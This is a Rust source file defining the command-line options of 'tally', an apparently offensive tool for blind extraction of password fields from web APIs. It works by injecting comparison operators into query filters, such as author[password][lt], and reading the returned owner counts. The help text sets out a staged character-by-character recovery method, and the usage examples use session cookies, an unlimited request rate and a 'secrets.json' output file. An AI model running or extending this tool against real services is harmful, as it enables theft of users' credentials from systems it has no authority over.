use crate::extract::alphabet::DEFAULT_CHARSET;
use clap::Parser;

/// TALLY – blind extraction through count-returning filter injection
#[derive(Parser, Debug)]
#[command(
    name = "tally",
    version = "0.1.0",
    about = "TALLY – blind extraction through count-returning filter injection",
    long_about = r#"
TALLY recovers every value of a hidden string field (typically a password)
from an API whose query filter lets the client pick the comparison operator,
e.g. ?author[password][lt]=abc, and whose response reveals how many distinct
owners matched.

Only two answers are needed:
  • lt <probe>       how many owners have a value below the probe
  • equals <probe>   how many owners have exactly the probe

Method:
  • Stage 1: scan the alphabet one character deep, watching the lt count step up
  • Stage 2: binary-search the next character of each newly revealed rank
  • Stage 3: split ranks sharing a character into groups, confirm with equals,
             repeat one character deeper for groups that are not yet complete
  • Stage 4: count all owners (gte "") to catch values starting with the last
             alphabet character

The injection point must already be known; tally does not look for it.
"#,
    after_help = r#"EXAMPLES:

  tally -t http://127.0.0.1:3000/api/posts
  tally -t http://127.0.0.1:3000/api/posts -p 'author[password]' --charset abcdef0123456789
  tally -t https://blog.example/api/posts --records-key data --owner-key userId
  tally -t https://blog.example/api/posts --cookie "session=abc123" --rate 10
  tally -t https://blog.example/api/posts --format json -o secrets.json"#
)]
pub struct Cli {
    /// Endpoint whose filter is injectable (e.g. http://host/api/posts)
    #[arg(short, long, required = true)]
    pub target: String,

    // ═══════════════════════════════════════════════════════════════════
    // INJECTION
    // ═══════════════════════════════════════════════════════════════════

    /// Filter path the operator is appended to
    #[arg(short, long, default_value = "author[password]", help_heading = "INJECTION")]
    pub param: String,

    /// Ordered character set, in the target's collation order
    #[arg(long, default_value = DEFAULT_CHARSET, help_heading = "INJECTION")]
    pub charset: String,

    /// JSON key holding the array of matched records
    #[arg(long = "records-key", default_value = "posts", help_heading = "INJECTION")]
    pub records_key: String,

    /// Key identifying the owner inside each record
    #[arg(long = "owner-key", default_value = "authorId", help_heading = "INJECTION")]
    pub owner_key: String,

    /// Longest value to reconstruct before giving up
    #[arg(long = "max-length", default_value_t = 128, help_heading = "INJECTION")]
    pub max_length: usize,

    // ═══════════════════════════════════════════════════════════════════
    // AUTHENTICATION
    // ═══════════════════════════════════════════════════════════════════

    /// HTTP Cookie header value
    #[arg(long, help_heading = "AUTHENTICATION")]
    pub cookie: Option<String>,

    /// HTTP headers (can be used multiple times)
    #[arg(long = "header", short = 'H', help_heading = "AUTHENTICATION")]
    pub headers: Vec<String>,

    // ═══════════════════════════════════════════════════════════════════
    // PERFORMANCE
    // ═══════════════════════════════════════════════════════════════════

    /// Max requests per second (0 = unlimited)
    #[arg(long, default_value_t = 0, help_heading = "PERFORMANCE")]
    pub rate: u32,

    /// Per-request timeout in seconds
    #[arg(long, default_value_t = 10, help_heading = "PERFORMANCE")]
    pub timeout: u64,

    /// Retries per query on transport failure
    #[arg(long, default_value_t = 2, help_heading = "PERFORMANCE")]
    pub retries: u32,

    /// Re-queries when a count falls outside the expected range
    #[arg(long = "ambiguity-retries", default_value_t = 2, help_heading = "PERFORMANCE")]
    pub ambiguity_retries: u32,

    // ═══════════════════════════════════════════════════════════════════
    // OUTPUT
    // ═══════════════════════════════════════════════════════════════════

    /// Skip the banner display
    #[arg(long, help_heading = "OUTPUT")]
    pub no_banner: bool,

    /// Quiet mode (warnings and the report only)
    #[arg(short, long, help_heading = "OUTPUT")]
    pub quiet: bool,

    /// Verbose output (debug level, one line per query)
    #[arg(short, long, help_heading = "OUTPUT")]
    pub verbose: bool,

    /// Output format (text, json)
    #[arg(long, default_value = "text", help_heading = "OUTPUT")]
    pub format: String,

    /// Output file path
    #[arg(short, long, help_heading = "OUTPUT")]
    pub output: Option<String>,
}
